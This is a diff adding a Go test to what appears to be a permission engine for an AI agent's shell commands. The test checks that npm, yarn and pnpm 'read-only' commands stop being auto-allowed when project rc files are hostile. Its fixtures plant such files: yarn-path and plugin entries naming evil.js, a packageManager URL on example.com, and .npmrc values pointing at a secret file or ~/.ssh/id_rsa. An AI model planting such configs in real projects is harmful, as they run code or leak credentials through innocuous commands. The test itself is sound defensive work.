@@ -245,3 +245,81 @@ func TestRunsDataAsksUnderToolWideAllow(t *testing.T) {
 		}
 	}
 }
+
+// yarn, npm and pnpm read rc files from the project and every directory
+// above it: a read-only subcommand there is read-only only when nothing in
+// them runs code or names another file. The npm case is run with the real
+// npm first: a project .npmrc's userconfig makes "npm ls" print the lines
+// of any file (issue 23).
+func TestHostilePackageManagerConfigIsNotReadOnly(t *testing.T) {
+	t.Parallel()
+	root, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	home, p := filepath.Join(root, "home"), filepath.Join(root, "p")
+	sub := filepath.Join(p, "packages", "a")
+	writeModeFile(t, filepath.Join(sub, "package.json"), `{"name": "a", "version": "1.0.0"}`, 0o644)
+	writeModeFile(t, filepath.Join(p, "package.json"), `{"name": "p", "version": "1.0.0"}`, 0o644)
+	secret := filepath.Join(root, "planted-secret")
+	writeModeFile(t, secret, "PLANTEDSECRET\n", 0o600)
+	if _, err := exec.LookPath("npm"); err == nil {
+		writeModeFile(t, filepath.Join(p, ".npmrc"), "userconfig="+secret+"\n", 0o644)
+		cmd := exec.Command("npm", "ls")
+		cmd.Dir = p
+		cmd.Env = append(os.Environ(), "HOME="+home, "npm_config_cache="+filepath.Join(root, "cache"), "npm_config_update_notifier=false")
+		out, _ := cmd.CombinedOutput()
+		if !strings.Contains(string(out), "PLANTEDSECRET") {
+			t.Fatalf("real npm ls did not print the file userconfig names: the case proves nothing\n%s", out)
+		}
+		os.Remove(filepath.Join(p, ".npmrc"))
+	}
+	ctx := context.Background()
+	eng, err := newEngine(ctx, engine.WithSettings(settings.Settings{Home: home, Cwd: p,
+		Rules: []permission.Rule{mustRule(t, "Bash(npm ls:*)"), mustRule(t, "Bash(yarn list:*)"), mustRule(t, "Bash(yarn why:*)"),
+			mustRule(t, "Bash(pnpm list:*)"), mustRule(t, "Bash(npm view:*)")}}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	decide := func(cmd, mode string) permission.Decision {
+		return eng.Decide(ctx, map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": cmd},
+			"cwd": p, "permission_mode": mode})
+	}
+	plain := []string{"npm ls", "yarn list", "yarn why lodash", "yarn info lodash", "pnpm list", "cd packages/a && npm ls"}
+	for _, cmd := range plain {
+		if d := decide(cmd, "plan"); d.Behavior != permission.Allow || d.Step != permission.StepReadOnly {
+			t.Errorf("plain project: plan: %q: %s/%s (%s), want read-only", cmd, d.Behavior, d.Step, d.Message)
+		}
+	}
+	for _, c := range []struct {
+		file, body string
+		cmds       []string
+	}{
+		{".yarnrc", "yarn-path \"./evil.js\"\n", []string{"yarn list", "yarn why lodash", "yarn info lodash", "cd packages/a && yarn list"}},
+		{"../.yarnrc", "yarn-path /tmp/evil.js\n", []string{"yarn list"}},
+		{".yarnrc.yml", "yarnPath: ./evil.cjs\n", []string{"yarn list", "yarn why x"}},
+		{".yarnrc.yml", "plugins:\n  - ./evil.cjs\n", []string{"yarn info x"}},
+		{"package.json", `{"packageManager": "yarn@https://example.com/evil.tgz"}`, []string{"yarn list"}},
+		{".npmrc", "userconfig=" + secret + "\n", []string{"npm ls", "npm view x", "cd packages/a && npm ls", "pnpm list"}},
+		{".npmrc", "globalconfig=~/.ssh/id_rsa\n", []string{"npm ls"}},
+		{".npmrc", "logs-dir=/tmp/elsewhere\n", []string{"npm ls"}},
+		{".pnpmfile.cjs", "module.exports = {}\n", []string{"pnpm list"}},
+	} {
+		f := filepath.Join(p, c.file)
+		old, hadOld := os.ReadFile(f)
+		writeModeFile(t, f, c.body, 0o644)
+		for _, cmd := range c.cmds {
+			if d := decide(cmd, "plan"); d.Behavior == permission.Allow {
+				t.Errorf("%s: plan: %q: ALLOW (%s)", c.file, cmd, d.Message)
+			}
+			if d := decide(cmd, "default"); d.Behavior != permission.Ask || !d.BypassImmune {
+				t.Errorf("%s: default, allow rules: %q: %s/%s (%s), want a safety ASK", c.file, cmd, d.Behavior, d.Step, d.Message)
+			}
+		}
+		if hadOld == nil {
+			writeModeFile(t, f, string(old), 0o644)
+		} else {
+			os.Remove(f)
+		}
+	}
+}
